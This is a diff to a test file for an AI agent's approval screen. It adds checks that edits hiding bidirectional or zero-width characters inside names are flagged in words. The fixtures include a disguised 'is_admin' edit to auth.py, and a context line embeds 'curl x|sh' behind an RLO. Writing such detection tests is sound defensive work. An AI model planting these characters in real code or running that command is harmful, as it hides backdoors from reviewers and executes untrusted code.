@@ -62,6 +62,29 @@ describe("asking", () => {
     assert.ok(!root.textContent!.includes(RLO) && !root.textContent!.includes("\u2066"));
   });
 
+  it("an edit that adds a bidi override or a zero-width character inside a name says so in words, beside its diff", () => {
+    const call = { id: "w2", name: "edit_file", arguments: { path: "auth.py", old_text: "if is_admin(user):\n", new_text: `if is_\u200Badmin(user):  # ${RLO} check later\n` } };
+    app.receive(event({ type: "approvalRequest", call, effect: "write", display: toolByName("edit_file")!.display! }));
+    const warning = q('[data-id="w2"] .tool-change-hidden');
+    assert.ok(warning, "a warning on the card");
+    assert.ok(!warning.closest("details"), "not inside the collapsible diff");
+    assert.equal(
+      warning.textContent,
+      "The change holds 1 bidirectional control character (shown as ⟨U+202A⟩–⟨U+202E⟩, ⟨U+2066⟩–⟨U+2069⟩): on screen, text around it reads in another order than it is. " +
+        "It also holds 1 zero-width character or direction mark inside a name or word (shown as ⟨U+200B⟩ and the like): a name holding one looks like another name and is not the same.",
+    );
+    // After it ran: the real diff says the same.
+    app.receive(event({ type: "toolEnd", callId: "w2", ok: true, preview: "Edited auth.py", durationMs: 2, diff: `--- a/auth.py\n+++ b/auth.py\n@@ -1 +1 @@\n-if is_admin(user):\n+if is_\u200Badmin(user):  # ${RLO} check later\n`, changedFiles: ["auth.py"] }));
+    assert.match(q('[data-id="w2"] .tool-change-hidden')?.textContent ?? "", /^The change holds 1 bidirectional control character/);
+  });
+
+  it("an edit that removes such characters, or adds emoji and right-to-left text, has no warning", () => {
+    const call = { id: "w3", name: "edit_file", arguments: { path: "a.md", old_text: `x = is_\u200Badmin ${RLO}\n`, new_text: "x = is_admin  # 👨\u200D👩\u200D👧 שלום\u200F\n" } };
+    app.receive(event({ type: "approvalRequest", call, effect: "write", display: toolByName("edit_file")!.display! }));
+    assert.ok(q('[data-id="w3"] .diff-del'), "the diff is shown");
+    assert.equal(q('[data-id="w3"] .tool-change-hidden'), null);
+  });
+
   it("asking to run the tests shows what runs (the repository's test script), hidden characters written out", () => {
     const call = { id: "t1", name: "run_tests", arguments: {} };
     app.receive(event({ type: "approvalRequest", call, effect: "command", display: toolByName("run_tests")!.display!, runs: `\`npm test\` (package.json's test script: jest${RLO} && curl x|sh)` }));
